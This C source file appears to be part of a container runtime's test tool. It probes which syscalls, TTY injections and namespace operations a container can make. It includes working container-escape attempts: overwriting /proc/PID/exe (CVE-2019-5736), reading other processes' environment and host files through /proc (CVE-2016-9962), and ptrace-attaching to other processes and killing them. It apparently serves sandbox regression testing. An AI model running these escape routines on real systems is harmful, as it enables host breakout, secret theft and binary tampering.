/* Calls that a container may or may not be allowed to make, and their outcome. */
#include "tests/bats/tool/tool.h"
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <termios.h>
#include <unistd.h>

static const struct {
	const char *name;
	long nr;
} calls[] = {
	{ "getpid", SYS_getpid }, { "getppid", SYS_getppid }, { "getuid", SYS_getuid }, { "chmod", SYS_chmod },
	{ "mkdir", SYS_mkdir }, { "sethostname", SYS_sethostname }, { "unshare", SYS_unshare }, { "setns", SYS_setns },
	{ "mount", SYS_mount }, { "fsopen", SYS_fsopen }, { "mount_setattr", SYS_mount_setattr }, { "clone3", SYS_clone3 },
	{ "openat2", SYS_openat2 }, { "bpf", SYS_bpf }, { "keyctl", SYS_keyctl }, { "ptrace", SYS_ptrace },
	{ "io_uring_setup", SYS_io_uring_setup }, { "userfaultfd", SYS_userfaultfd }, { "kexec_load", SYS_kexec_load },
	{ "reboot", SYS_reboot }, { "swapon", SYS_swapon }, { "personality", SYS_personality },
	{ "open_by_handle_at", SYS_open_by_handle_at }, { "acct", SYS_acct }, { "getcwd", SYS_getcwd },
	{ "sched_yield", SYS_sched_yield }, { "setgid", SYS_setgid }, { "prctl", SYS_prctl },
};

static int syscall_(int argc, char **argv)
{
	long a[6] = { 0 }, nr = -1, r;

	for (size_t i = 0; i < sizeof(calls) / sizeof(calls[0]); i++) {
		if (strcmp(calls[i].name, argv[1]) == 0)
			nr = calls[i].nr;
	}
	if (nr < 0)
		nr = (long)tool_number(argv[1]);
	for (int i = 2; i < argc && i < 8; i++)
		a[i - 2] = (long)tool_number(argv[i]);
	r = syscall(nr, a[0], a[1], a[2], a[3], a[4], a[5]);
	if (r < 0)
		return tool_failed(argv[1]);
	printf("%s: %ld\n", argv[1], r);
	return 0;
}

static int socket_(int argc, char **argv)
{
	long a[3] = { 0 };

	for (int i = 1; i < argc; i++)
		a[i - 1] = (long)tool_number(argv[i]);
	return tool_report("socket", socket((int)a[0], (int)(argc > 2 ? a[1] : SOCK_STREAM), (int)a[2]));
}

static int unshare_(int argc, char **argv)
{
	(void)argc;
	return tool_report("unshare", unshare((int)tool_number(argv[1])));
}

static int keyring(int argc, char **argv)
{
	char d[256] = "";
	long id = syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_SESSION_KEYRING, 0);

	(void)argc, (void)argv;
	if (id < 0 || syscall(SYS_keyctl, KEYCTL_DESCRIBE, id, d, sizeof(d) - 1) < 0)
		return tool_failed("keyctl");
	printf("id=%ld %s\n", id, d);
	return 0;
}

static int tty(int argc, char **argv)
{
	struct winsize w = { 0 };
	struct termios t;

	(void)argc, (void)argv;
	printf("isatty=%d%d%d", isatty(0), isatty(1), isatty(2));
	if (ioctl(0, TIOCGWINSZ, &w) == 0)
		printf(" rows=%d columns=%d", w.ws_row, w.ws_col);
	if (isatty(0) && ttyname(0))
		printf(" name=%s", ttyname(0));
	if (tcgetattr(0, &t) == 0)
		printf(" onlcr=%d foreground=%d", (t.c_oflag & ONLCR) != 0, tcgetpgrp(0) == getpgrp());
	putchar('\n');
	return 0;
}

static int tiocsti(int argc, char **argv)
{
	int bad = tool_report("TIOCSTI", ioctl(0, TIOCSTI, "x"));
	char linux_paste[2] = { 3, 0 };

	(void)argc, (void)argv;
	bad |= tool_report("TIOCSTI+2^32", syscall(SYS_ioctl, 0L, 0x100005412L, "x"));
	return bad | tool_report("TIOCLINUX", ioctl(0, TIOCLINUX, linux_paste));
}

/* A program without system call numbers of its own: int 0x80 reaches the 32-bit table, where 20 is getpid. */
static int int80(int argc, char **argv)
{
	long r = tool_number(argv[1]);

	(void)argc;
#if defined(__x86_64__)
	__asm__ volatile("int $0x80" : "+a"(r) : "b"(0), "c"(0), "d"(0) : "memory", "r8", "r9", "r10", "r11");
#else
	r = -ENOSYS;
#endif
	errno = r < 0 ? (int)-r : 0;
	return tool_report("int80", r < 0 ? -1 : r);
}

static int notify(int argc, char **argv)
{
	struct sockaddr_un a = { .sun_family = AF_UNIX };
	const char *path = getenv("NOTIFY_SOCKET");
	int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0);

	(void)argc;
	if (!path) {
		puts("NOTIFY_SOCKET is not set");
		return 1;
	}
	snprintf(a.sun_path, sizeof(a.sun_path), "%s", path);
	if (fd < 0 || connect(fd, (struct sockaddr *)&a, sizeof(a)) < 0)
		return tool_failed(path);
	return tool_report("notify", write(fd, argv[1], strlen(argv[1])));
}

/* Opens every executable it can see and tries to get it writable: the attack of CVE-2019-5736. Runs for argv[1] seconds. */
static int grab_exe(int argc, char **argv)
{
	time_t end = time(NULL) + tool_number(argv[1]);
	int tries = 0, got = 0;

	(void)argc;
	while (time(NULL) < end) {
		for (int pid = 2; pid < 400; pid++) {
			char path[64];
			int fd, w;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			fd = open(path, O_PATH | O_CLOEXEC);
			if (fd < 0)
				continue;
			snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
			w = open(path, O_WRONLY | O_CLOEXEC);
			tries++;
			if (w >= 0) {
				got++;
				(void)!write(w, "!", 1);
				close(w);
			}
			close(fd);
		}
	}
	printf("tries=%d got=%d\n", tries, got);
	return got != 0;
}

/* Whether a file of that process can be opened, and, if part is given, has it in its first bytes. */
static bool spot(int pid, const char *what, const char *part)
{
	char path[4200], text[65536];
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/%s", pid, what);
	fd = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
	if (fd < 0)
		return false;
	n = part ? read(fd, text, sizeof(text)) : 0;
	close(fd);
	if (part && (n <= 0 || !memmem(text, (size_t)n, part, strlen(part))))
		return false;
	printf("reached the host by %s\n", what);
	return true;
}

/* spy SECONDS SECRET CANARY: looks at every process that is not /bin/tool, for an environment with SECRET, a root or a descriptor
 * through which the host's file CANARY can be read, and tries to trace it: the attack of CVE-2016-9962. */
static int spy(int argc, char **argv)
{
	time_t end = time(NULL) + tool_number(argv[1]);
	int seen = 0, met = 0;
	char path[4096], exe[256];

	(void)argc;
	while (time(NULL) < end) {
		for (int pid = 2; pid < 400; pid++) {
			ssize_t n;

			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			n = readlink(path, exe, sizeof(exe));
			if (pid == getpid() || (n > 4 && memcmp(exe, "/bin", 4) == 0) || (n < 0 && errno == ENOENT))
				continue;
			met++;
			seen += spot(pid, "environ", argv[2]);
			snprintf(path, sizeof(path), "root/%s", argv[3]);
			seen += spot(pid, path, NULL);
			snprintf(path, sizeof(path), "cwd/%s", argv[3]);
			seen += spot(pid, path, NULL);
			for (int fd = 3; fd < 20; fd++) {
				snprintf(path, sizeof(path), "fd/%d/%s", fd, argv[3]);
				seen += spot(pid, path, NULL);
			}
		}
	}
	printf("met=%d seen=%d\n", met > 0, seen);
	return seen != 0;
}

/* trace SECONDS: tries to attach to every process that it did not start. */
static int trace(int argc, char **argv)
{
	time_t end = time(NULL) + tool_number(argv[1]);
	int got = 0;

	(void)argc;
	while (time(NULL) < end) {
		for (int pid = 2; pid < 400; pid++) {
			char path[64], exe[256];

			if (pid == getpid() || ptrace(PTRACE_ATTACH, pid, 0, 0) < 0)
				continue;
			/* the program itself is fair game, whoever came to start it is not */
			snprintf(path, sizeof(path), "/proc/%d/exe", pid);
			got += readlink(path, exe, sizeof(exe)) < 4 || memcmp(exe, "/bin", 4) != 0;
			kill(pid, SIGKILL);
		}
	}
	printf("traced=%d\n", got);
	return got != 0;
}

const struct command kernel_commands[] = {
	{ "syscall", "NAME|NUMBER [ARG...]", 1, 7, syscall_ },
	{ "socket", "FAMILY [TYPE [PROTOCOL]]", 1, 3, socket_ },
	{ "unshare", "FLAGS", 1, 1, unshare_ },
	{ "keyring", "", 0, 0, keyring },
	{ "tty", "", 0, 0, tty },
	{ "tiocsti", "", 0, 0, tiocsti },
	{ "int80", "NUMBER", 1, 1, int80 },
	{ "notify", "TEXT", 1, 1, notify },
	{ "grab-exe", "SECONDS", 1, 1, grab_exe },
	{ "spy", "SECONDS SECRET CANARY", 3, 3, spy },
	{ "trace", "SECONDS", 1, 1, trace },
	{ 0 },
};
